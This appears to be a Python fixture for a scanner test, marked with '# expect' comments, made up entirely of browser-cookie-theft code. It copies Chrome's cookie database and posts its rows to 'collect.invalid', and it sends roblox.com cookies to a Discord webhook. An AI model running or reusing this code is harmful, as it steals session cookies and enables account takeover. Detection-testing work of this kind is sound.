import os
import shutil
import sqlite3
import browser_cookie3
import requests

path = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Network", "Cookies")
shutil.copy(path, "c.db")
cursor = sqlite3.connect("c.db").cursor()
cursor.execute("SELECT host_key, name, encrypted_value FROM cookies")
requests.post("https://collect.invalid/c", json=cursor.fetchall())  # expect

jar = browser_cookie3.chrome(domain_name="roblox.com")
requests.post("https://discord.com/api/webhooks/0/x", json={"content": str(jar)})  # expect
